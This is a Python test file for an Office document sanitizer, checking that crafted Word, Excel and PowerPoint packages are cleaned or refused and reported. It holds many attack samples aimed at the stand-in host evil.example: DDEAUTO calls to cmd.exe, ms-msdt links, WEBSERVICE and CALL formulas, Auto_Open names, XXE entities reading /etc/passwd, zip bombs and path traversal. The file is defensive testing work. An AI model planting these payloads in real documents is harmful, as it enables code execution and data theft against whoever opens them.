"""Attacks by Office files: none crosses, each is told, and bombs cost nothing."""

import hashlib
import io
import random
import struct
import zipfile

import pytest

from sanitizers.findings import Kind
from sanitizers.reasons import ReasonCode, Withheld
from tests.sanitizers.office.packages import (
    BOOK,
    DECK,
    DOCUMENT,
    HEAD,
    OFFICE,
    SHEET,
    SLIDE,
    A,
    C,
    R,
    W,
    X,
    book,
    clean,
    deck,
    paragraph,
    row,
    shape,
    word,
)

HOST = "evil.example"


def refused(data: bytes) -> ReasonCode:
    """Why a file is withheld."""
    with pytest.raises(Withheld) as held:
        clean(data)
    return held.value.code


def settings(xml: str) -> bytes:
    made = word().relate(DOCUMENT, "rId5", "settings", "settings.xml")
    made.relate(
        "word/settings.xml", "rId1", "attachedTemplate", f"http://{HOST}/t.dotm", external=True
    )
    made.add("word/settings.xml", f'<w:settings xmlns:w="{W}" xmlns:r="{R}">{xml}</w:settings>')
    return made.bytes()


def linked(kind: str, xml: str) -> bytes:
    """A document with `xml` that uses an external relationship."""
    return word(xml).relate(DOCUMENT, "rId8", kind, f"http://{HOST}/x", external=True).bytes()


def field(code: str) -> bytes:
    return word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code[:4]}</w:instrText></w:r><w:r><w:instrText>{code[4:]}</w:instrText>"
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ).bytes()


ATTACKS = {
    "remote template": (settings('<w:attachedTemplate r:id="rId1"/>'), "external_reference"),
    "frame": (linked("frame", '<w:frameset><w:frame><w:sourceFileName r:id="rId8"/></w:frame>'
                     "</w:frameset>"), "external_reference"),
    "subdocument": (linked("subDocument", '<w:subDoc r:id="rId8"/>'), "external_reference"),
    "remote picture": (
        linked("image", '<w:p><w:r><w:drawing><a:blip r:link="rId8"/></w:drawing></w:r></w:p>'),
        "external_reference",
    ),
    "remote picture of VML": (
        linked("image", '<w:p><w:r><w:pict><v:rect><v:imagedata r:href="rId8" r:id="rId8"/>'
               "</v:rect></w:pict></w:r></w:p>"),
        "external_reference",
    ),
    "linked object": (
        linked("oleObject", '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId8"/></w:object>'
               "</w:r></w:p>"),
        "external_reference",
    ),
    "link of a program": (
        word('<w:p><w:hyperlink r:id="rId8"/></w:p>').relate(
            DOCUMENT, "rId8", "hyperlink", f"ms-msdt:/id {HOST}", external=True
        ).bytes(),
        "link",
    ),
    "DDE": (field(f"DDEAUTO c:\\\\cmd.exe \"/k {HOST}\""), "external_reference"),
    "nested DDE": (field(f"QUOTE 68 68 69 {HOST}"), "unknown_data"),
    "remote text": (field(f'INCLUDETEXT "http://{HOST}/"'), "external_reference"),
    "remote picture field": (field(f'INCLUDEPICTURE "http://{HOST}/" \\d'), "external_reference"),
    "index of other files": (field(f"RD \\\\{HOST}\\x"), "external_reference"),
    "link field": (field(f'HYPERLINK "http://{HOST}/"'), "link"),
    "link field with a place": (field(f'HYPERLINK "http://{HOST}/" \\l "a"'), "link"),
    "active field": (field(f"CONTROL Forms.{HOST}"), "action"),
    "simple DDE": (
        word(f'<w:p><w:fldSimple w:instr=" DDE {HOST} a b "/></w:p>').bytes(), "external_reference"
    ),
    "WEBSERVICE": (
        book(row(f'<c r="A1"><f>_xlfn.WEBSERVICE("http://{HOST}/"&amp;B1)</f><v>1</v></c>')).bytes(),
        "formula",
    ),
    "DDE formula": (
        book(row(f"<c r=\"A1\"><f>cmd|'/c {HOST}'!A0</f><v>1</v></c>")).bytes(), "formula"
    ),
    "CALL": (
        book(row(f'<c r="A1"><f>CALL("Kernel32","{HOST}","J")</f><v>1</v></c>')).bytes(), "formula"
    ),
    "RTD": (book(row(f'<c r="A1"><f>RTD("{HOST}",,"a")</f><v>1</v></c>')).bytes(), "formula"),
    "other workbook": (
        book(row(f"<c r=\"A1\"><f>'\\\\{HOST}\\[b.xlsx]S'!A1</f><v>1</v></c>")).bytes(), "formula"
    ),
    "HYPERLINK formula": (
        book(row(f'<c r="A1"><f>HYPERLINK("http://{HOST}/"&amp;A2,"押す")</f><v>押す</v></c>')).bytes(),
        "formula",
    ),
    "add-in": (book(row(f'<c r="A1"><f>_xll.{HOST}(1)</f><v>1</v></c>')).bytes(), "formula"),
    "name that fetches": (
        book(
            row('<c r="A1"><f>net</f><v>1</v></c>'),
            workbook=f'<definedNames><definedName name="net">WEBSERVICE("http://{HOST}/")'
            "</definedName></definedNames>",
        ).bytes(),
        "formula",
    ),
    "name that starts": (
        book(
            workbook='<definedNames><definedName name="_xlnm.Auto_Open">evil.example!A1'
            "</definedName></definedNames>"
        ).bytes(),
        "macro",
    ),
    "rule that fetches": (
        book(
            after='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
            f'<formula>WEBSERVICE("http://{HOST}")</formula></cfRule></conditionalFormatting>'
        ).bytes(),
        "formula",
    ),
    "validation that fetches": (
        book(
            after='<dataValidations><dataValidation type="custom" sqref="A1"><formula1>'
            f'WEBSERVICE("{HOST}")</formula1></dataValidation></dataValidations>'
        ).bytes(),
        "formula",
    ),
    "link of a cell": (
        book(after='<hyperlinks><hyperlink ref="A1" r:id="rId8"/></hyperlinks>')
        .relate(SHEET, "rId8", "hyperlink", f"file://{HOST}/a.exe", external=True).bytes(),
        "link",
    ),
    "external link": (
        book(workbook='<externalReferences><externalReference r:id="rId8"/></externalReferences>')
        .relate(BOOK, "rId8", "externalLink", f"http://{HOST}/", external=True).bytes(),
        "external_reference",
    ),
    "program of a slide": (
        deck(shape("字", '<a:hlinkClick r:id="rId8" action="ppaction://program"/>'))
        .relate(SLIDE, "rId8", "hyperlink", f"{HOST}.exe", external=True).bytes(),
        "action",
    ),
    "macro of a slide": (
        deck(shape("字", f'<a:hlinkClick r:id="" action="ppaction://macro?name={HOST}"/>')).bytes(),
        "action",
    ),
    "remote video": (
        deck(shape("字", "").replace("<p:nvPr/>", '<p:nvPr><a:videoFile r:link="rId8"/></p:nvPr>'))
        .relate(SLIDE, "rId8", "video", f"http://{HOST}/", external=True).bytes(),
        "external_reference",
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_does_not_cross_and_is_told(attack):
    data, kind = ATTACKS[attack]
    result = clean(data, links="keep")
    assert HOST.encode() not in result.everything
    assert b'TargetMode="External"' not in result.everything
    assert kind in result.kinds


def test_the_value_of_a_formula_that_goes_stays():
    data = book(row('<c r="A1"><f>WEBSERVICE("a")</f><v>27.5</v></c>')).bytes()
    assert b'<c r="A1"><v>27.5</v></c>' in clean(data).parts[SHEET]


def test_a_chart_of_another_workbook_keeps_its_values():
    made = deck(
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name=""/><p:cNvGraphicFramePr/>'
        "<p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic>"
        f'<a:graphicData uri="{C}"><c:chart xmlns:c="{C}" r:id="rId6"/></a:graphicData>'
        "</a:graphic></p:graphicFrame>"
    ).relate(SLIDE, "rId6", "chart", "../charts/chart1.xml")
    made.relate(
        "ppt/charts/chart1.xml", "rId1", "oleObject", f"file://{HOST}/b.xlsx", external=True
    )
    made.add(
        "ppt/charts/chart1.xml",
        f'<c:chartSpace xmlns:c="{C}" xmlns:a="{A}" xmlns:r="{R}"><c:chart><c:plotArea><c:barChart>'
        '<c:ser><c:val><c:numRef><c:f>[b.xlsx]S!$A$1</c:f><c:numCache><c:pt idx="0"><c:v>4.3</c:v>'
        "</c:pt></c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart>"
        '<c:externalData r:id="rId1"/></c:chartSpace>',
    )
    result = clean(made.bytes())
    assert b"<c:v>4.3</c:v>" in result.parts["ppt/charts/chart1.xml"]
    assert b"b.xlsx" not in result.everything
    assert "external_reference" in result.kinds


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">',
    ],
)
def test_a_document_type_withholds(head):
    assert refused(word(before=head).bytes()) is ReasonCode.DAMAGED


def test_a_document_type_in_another_encoding_withholds():
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d []><w:document xmlns:w="{W}"/>'
    made = word().add(DOCUMENT, text.encode("utf-16"))
    assert refused(made.bytes()) is ReasonCode.DAMAGED


def test_another_encoding_than_unicode_withholds():
    text = f'<?xml version="1.0" encoding="UTF-7"?><w:document xmlns:w="{W}"/>'
    assert refused(word().add(DOCUMENT, text.encode()).bytes()) is ReasonCode.DAMAGED


def test_a_part_in_utf16_is_read():
    text = HEAD.replace("UTF-8", "UTF-16") + (
        f'<w:document xmlns:w="{W}"><w:body>{paragraph("市長")}</w:body></w:document>'
    )
    made = word().add(DOCUMENT, text.encode("utf-16"))
    assert "市長" in clean(made.bytes()).parts[DOCUMENT].decode()


def test_a_bomb_is_refused_by_what_it_announces():
    made = word().add("word/styles.xml", b" " * 60_000_000)
    assert refused(made.relate(DOCUMENT, "rId5", "styles", "styles.xml").bytes()) is (
        ReasonCode.ARCHIVE_BOMB
    )


def test_a_part_that_is_larger_than_it_says_is_refused():
    data = bytearray(word().bytes())
    at = data.rfind(b"PK\x01\x02")
    size = struct.unpack_from("<I", data, at + 24)[0]
    local = struct.unpack_from("<I", data, at + 42)[0]
    struct.pack_into("<I", data, at + 24, size - 1)
    struct.pack_into("<I", data, local + 22, size - 1)
    assert refused(bytes(data)) is ReasonCode.DAMAGED


def test_headers_that_disagree_are_refused():
    data = word().bytes().replace(b"word/document.xml", b"word/documenT.xml", 1)
    assert refused(data) is ReasonCode.DAMAGED


def test_overlapping_parts_are_refused():
    data = bytearray(word().bytes())
    last = data.rfind(b"PK\x01\x02")
    first = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, last + 42, struct.unpack_from("<I", data, first + 42)[0])
    assert refused(bytes(data)) in (ReasonCode.DAMAGED, ReasonCode.ARCHIVE_BOMB)


@pytest.mark.parametrize("second", ["word/document.xml", "WORD/Document.xml"])
def test_two_parts_of_one_name_are_refused(second):
    out = io.BytesIO(word().bytes())
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="") as _:
        archive.writestr(second, "<x/>")
        archive.writestr(second, "<x/>")
    assert refused(out.getvalue()) is ReasonCode.DAMAGED


@pytest.mark.parametrize("target", ["../../../etc/passwd", "/word/../../x.xml", "..\\..\\x.xml"])
def test_a_target_never_leads_out_of_the_package(target):
    result = clean(word().relate(DOCUMENT, "rId5", "styles", target).bytes())
    assert set(result.parts) == {
        "[Content_Types].xml", "_rels/.rels", "docProps/app.xml", DOCUMENT,
    }  # fmt: skip


def test_parts_that_refer_to_each_other_end():
    made = deck().relate(SLIDE, "rId9", "slide", "slide1.xml")
    made.relate(DECK, "rId9", "slide", "slides/slide1.xml")
    assert SLIDE in clean(made.bytes()).parts


def test_a_deep_tree_is_refused():
    deep = "<w:sdt><w:sdtContent>" * 3_000 + "</w:sdtContent></w:sdt>" * 3_000
    assert refused(word(deep).bytes()) is ReasonCode.DAMAGED


def test_a_sheet_of_very_many_cells_is_cleaned():
    cells = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{r}</v></c>' for c in "ABCDEFGHIJ") + "</row>"
        for r in range(1, 3_001)
    )
    assert clean(book(cells).bytes()).parts[SHEET].count(b"<c ") == 30_000


@pytest.mark.parametrize(
    "data",
    [
        word().bytes()[:-30],
        word().bytes()[100:],
        word().add(DOCUMENT, "<w:document").bytes(),
        word().add(DOCUMENT, b"").bytes(),
        word().add(DOCUMENT, f'<x xmlns="{X}"/>').bytes(),
        word().add(DOCUMENT, b"\xff\xfe\x00").bytes(),
        book().add(BOOK, f'<w:document xmlns:w="{W}"/>').bytes(),
    ],
)
def test_garbage_is_refused(data):
    with pytest.raises((Withheld, KeyError)):
        clean(data)


def test_bytes_changed_at_random_never_crash_or_cross_unverified():
    original = deck(shape("字")).relate(SLIDE, "rId7", "hyperlink", "https://a.example/").bytes()
    rng = random.Random(7)
    for _ in range(150):
        data = bytearray(original)
        for _ in range(rng.randint(1, 4)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        try:
            clean(bytes(data))  # verified when it returns
        except (Withheld, KeyError):
            continue


def test_an_embedded_package_goes_beside_the_document():
    inner = book(row('<c r="A1"><v>77</v></c>')).bytes()
    made = word(
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="rId8"/>'
        "</w:object></w:r></w:p>"
    ).relate(DOCUMENT, "rId8", "package", "embeddings/book.xlsx")
    result = clean(made.add("word/embeddings/book.xlsx", inner).bytes())
    assert result.beside == (inner,)
    assert b"embeddings" not in result.everything
    assert "embedded_file" in result.kinds


def test_a_chart_keeps_its_workbook_and_it_is_cleaned():
    inner = book(row('<c r="A1"><f>WEBSERVICE("http://evil.example/")</f><v>5</v></c>')).bytes()
    made = deck(
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name=""/><p:cNvGraphicFramePr/>'
        "<p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic>"
        f'<a:graphicData uri="{C}"><c:chart xmlns:c="{C}" r:id="rId6"/></a:graphicData>'
        "</a:graphic></p:graphicFrame>"
    ).relate(SLIDE, "rId6", "chart", "../charts/chart1.xml")
    made.relate("ppt/charts/chart1.xml", "rId1", "package", "../embeddings/b.xlsx")
    made.add("ppt/embeddings/b.xlsx", inner)
    made.add(
        "ppt/charts/chart1.xml",
        f'<c:chartSpace xmlns:c="{C}" xmlns:r="{R}"><c:chart><c:plotArea/></c:chart>'
        '<c:externalData r:id="rId1"/></c:chartSpace>',
        OFFICE + "drawingml.chart+xml",
    )
    parts = clean(made.bytes()).parts
    with zipfile.ZipFile(io.BytesIO(parts["ppt/embeddings/workbook1.xlsx"])) as archive:
        sheet = archive.read(SHEET)
    assert b'<c r="A1"><v>5</v></c>' in sheet


def test_a_picture_is_cleaned_and_one_that_cannot_be_gives_way_to_a_stand_in():
    made = word(
        '<w:p><w:r><w:pict><v:rect><v:imagedata r:id="rId8"/></v:rect></w:pict></w:r></w:p>'
    ).relate(DOCUMENT, "rId8", "image", "media/x.emf")
    result = clean(made.add("word/media/x.emf", b"\x01\0\0\0" + b"evil.example" * 20).bytes())
    assert result.parts["word/media/image1.png"].startswith(b"\x89PNG")
    assert b"evil.example" not in result.everything
    assert "withheld_part" in result.kinds


def test_a_cell_that_held_a_chunk_of_another_format_keeps_a_paragraph():
    made = word(
        '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:altChunk r:id="rId8"/></w:tc></w:tr></w:tbl>'
    ).relate(DOCUMENT, "rId8", "aFChunk", "chunk.html")
    result = clean(made.add("word/chunk.html", b"<script>").bytes())
    assert b"<w:tc><w:p/></w:tc>" in result.parts[DOCUMENT]
    assert "embedded_file" in result.kinds


@pytest.mark.parametrize(
    ("made", "source", "kind", "finding"),
    [
        (
            word,
            DOCUMENT,
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "macro",
        ),
        (
            book,
            BOOK,
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
            "macro",
        ),
        (word, DOCUMENT, "control", "embedded_object"),
        (word, DOCUMENT, "oleObject", "embedded_object"),
        (book, BOOK, "connections", "external_reference"),
        (
            word,
            "",
            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
            "macro",
        ),
    ],
)
def test_what_is_removed_is_told(made, source, kind, finding):
    package = made().relate(source, "rId50", kind, "/thing.bin").add("thing.bin", b"thing")
    result = clean(package.bytes())
    assert finding in result.kinds
    assert b"thing" not in result.everything


def test_the_hash_of_a_removed_macro_is_told():
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    made = word().relate(DOCUMENT, "rId50", kind, "vbaProject.bin")
    found = clean(made.add("word/vbaProject.bin", b"macro").bytes()).cleaned.findings
    expected = hashlib.sha256(b"macro").hexdigest()
    assert [f.sha256 for f in found if f.kind is Kind.MACRO] == [expected]
